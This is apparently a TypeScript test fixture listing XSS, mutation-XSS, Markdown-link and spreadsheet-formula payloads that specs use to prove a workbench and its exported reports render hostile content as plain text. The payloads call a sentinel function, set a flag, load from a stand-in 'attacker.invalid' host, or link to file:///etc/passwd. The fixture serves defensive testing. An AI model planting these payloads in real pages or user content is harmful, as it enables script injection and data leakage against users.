// Hostile strings shared by the specs that prove hostile content runs nothing: in exported reports
// (hostileReports.spec.ts) and in the workbench itself (hostileContent.spec.ts).

/**
 * Strings that must come out of every format and every view as exactly the text that went in:
 * markup that would break out of text, attributes, <style> or <script>, script and data URLs,
 * template syntax, Unicode that trips up text handling, entity look-alikes and spreadsheet
 * formulas. Those that would run code set `window.__pwned`.
 */
export const HOSTILE = [
  '<script>window.__pwned = 1</script>',
  '"><svg onload="window.__pwned=1">',
  '</script><script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=1">',
  'javascript:window.__pwned=1',
  '</style><script>window.__pwned=1</script>',
  '<!--',
  ']]>',
  "{{constructor.constructor('window.__pwned=1')()}}",
  'a line\u2028separator and a paragraph\u2029separator',
  'right-to-left \u202Eoverride: gpj.exe and what follows',
  'family 👩\u200D👩\u200D👧\u200D👦 joined by zero-width joiners',
  '&amp;',
  '&lt;',
  '=HYPERLINK("https://example.org/?leak="&A1,"click")',
  "'+1 already starts with an apostrophe",
  'first line\nsecond line\n\n    indented after a blank line',
] as const;

/**
 * The function every XSS payload calls with its own number, were it ever to run; a test exposes
 * it to the page and fails on the first call. A few payloads open a dialog or set
 * `window.__pwned` instead, so those ways of noticing are tried too.
 */
export const SENTINEL = '__xss';

/** The script a payload runs: a call of the sentinel with the payload's number. */
const run = (n: number) => `${SENTINEL}(${n})`;

/** A host no request may ever go to. */
const ATTACKER = 'https://attacker.invalid';

/** `<script>…</script>` in a data: URL, which must not keep its angle brackets in Markdown. */
const base64Script = (n: number) => Buffer.from(`<script>${run(n)}</script>`).toString('base64');

/**
 * Markup that runs script, loads something or escapes its context where a sanitiser or an
 * escaping step slips: script elements, event handlers, script and data URLs in every attribute
 * that takes one, frames, forms, refreshes, and the mutation (mXSS) patterns that turn inert
 * markup live when it is parsed a second time. The number in each is its place in the list.
 */
export const MARKUP_PAYLOADS: readonly string[] = [
  (n: number) => `<script>${run(n)}</script>`,
  (n: number) => `<script src="data:text/javascript,${run(n)}"></script>`,
  (n: number) => `<img src=x onerror="${run(n)}">`,
  (n: number) => `<img src=x onerror=alert(${n})>`,
  (n: number) => `<IMG SRC=JaVaScRiPt:${run(n)}>`,
  (n: number) => `<svg onload="${run(n)}">`,
  (n: number) => `<svg><script>${run(n)}</script></svg>`,
  (n: number) => `<svg><animate onbegin="${run(n)}" attributeName="x" dur="1s"/></svg>`,
  (n: number) => `<svg><a xlink:href="javascript:${run(n)}"><text y="20">an svg link</text></a></svg>`,
  (n: number) => `<body onload="${run(n)}">`,
  (n: number) => `<iframe srcdoc="<script>${run(n)}</script>"></iframe>`,
  (n: number) => `<iframe src="javascript:${run(n)}"></iframe>`,
  (n: number) => `<iframe src="data:text/html,<script>${run(n)}</script>"></iframe>`,
  (n: number) => `<a href="javascript:${run(n)}">a javascript: link</a>`,
  (n: number) => `<a href=" JaVaScRiPt:${run(n)}">a mixed-case link</a>`,
  (n: number) => `<a href="java&#x09;script:${run(n)}">a tab-split link</a>`,
  (n: number) =>
    `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run(n)}">an entity link</a>`,
  (n: number) => `<a href="data:text/html,<script>${run(n)}</script>">a data: link</a>`,
  (n: number) => `<a href="vbscript:msgbox(${n})">a vbscript: link</a>`,
  (n: number) => `<a href="#" onclick="${run(n)}">a link with a click handler</a>`,
  (n: number) => `<p onmouseover="${run(n)}">a paragraph with a hover handler</p>`,
  (n: number) => `<svg><style><img src=x onerror="${run(n)}"></style></svg>`,
  (n: number) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run(n)}&gt;">`,
  (n: number) => `<noscript><p title="</noscript><img src=x onerror=${run(n)}>"></noscript>`,
  (n: number) => `<!--<img src="--><img src=x onerror="${run(n)}">`,
  (n: number) => `<template><script>${run(n)}</script></template>`,
  (n: number) => `<textarea><img src=x onerror="${run(n)}"></textarea>`,
  (n: number) => `<scr<script>ipt>${run(n)}</scr</script>ipt>`,
  (n: number) => `<form action="javascript:${run(n)}"><button>Send</button></form>`,
  (n: number) => `<button formaction="javascript:${run(n)}">Go</button>`,
  (n: number) => `<input autofocus onfocus="${run(n)}">`,
  (n: number) => `<details open ontoggle="${run(n)}"><summary>more</summary></details>`,
  (n: number) => `<video><source onerror="${run(n)}"></video>`,
  (n: number) => `<marquee onstart="${run(n)}">a marquee</marquee>`,
  (n: number) => `<object data="data:text/html,<script>${run(n)}</script>"></object>`,
  (n: number) => `<embed src="data:text/html,<script>${run(n)}</script>">`,
  (n: number) => `<meta http-equiv="refresh" content="0;url=javascript:${run(n)}">`,
  (n: number) => `<base href="javascript:${run(n)}//">`,
  (n: number) => `<style>@import '${ATTACKER}/${n}.css';</style>`,
  (n: number) => `<link rel="stylesheet" href="${ATTACKER}/${n}.css">`,
  (n: number) => `<img src="${ATTACKER}/${n}.png" srcset="${ATTACKER}/${n}-2x.png 2x">`,
  (n: number) => `<div style="background:url(${ATTACKER}/${n}.png)">a styled block</div>`,
  (n: number) => `"><img src=x onerror="${run(n)}">`,
  (n: number) => `'"></textarea></title></style><script>${run(n)}</script>`,
  (n: number) => `<img src=x onerror="window.__pwned=${n}">`,
  (n: number) => `{{constructor.constructor('${run(n)}')()}}`,
  (n: number) => `\${${run(n)}}`,
  (n: number) => `javascript:${run(n)}`,
].map((make, index) => make(index + 1));

/**
 * Markdown that would make a hostile link, image or block: script, data, vbscript and file URLs
 * in links, images, references and autolinks, entity-encoded and upper-case schemes, a title that
 * breaks out of its attribute, a remote image, and raw HTML (which must stay text). Numbered on
 * from the markup payloads.
 */
export const MARKDOWN_PAYLOADS: readonly string[] = [
  (n: number) => `[a markdown link](javascript:${run(n)})`,
  (n: number) => `[an upper-case link](JAVASCRIPT:${run(n)})`,
  (n: number) => `[an entity link](&#106;avascript:${run(n)})`,
  (n: number) => `[a data link](data:text/html;base64,${base64Script(n)})`,
  (n: number) => `[a vbscript link](vbscript:msgbox(${n}))`,
  (n: number) => `[a file link](file:///etc/passwd?${n})`,
  (n: number) => `![an image](javascript:${run(n)})`,
  (n: number) => `![a remote image](${ATTACKER}/${n}.png)`,
  (n: number) => `![a data image](data:image/svg+xml;base64,${base64Script(n)})`,
  (n: number) => `[a reference link][hostile-${n}]\n\n[hostile-${n}]: javascript:${run(n)}`,
  (n: number) => `<javascript:${run(n)}>`,
  (n: number) => `<data:text/html;base64,${base64Script(n)}>`,
  (n: number) => `[a title breakout](${ATTACKER}/${n} "\\" onmouseover=\\"${run(n)}")`,
  (n: number) => `[<img src=x onerror=${run(n)}>](javascript:${run(n)})`,
  (n: number) => `<div onmouseover="${run(n)}">a raw HTML block</div>`,
  (n: number) => `<a href="javascript:${run(n)}">raw HTML link</a>`,
].map((make, index) => make(MARKUP_PAYLOADS.length + index + 1));
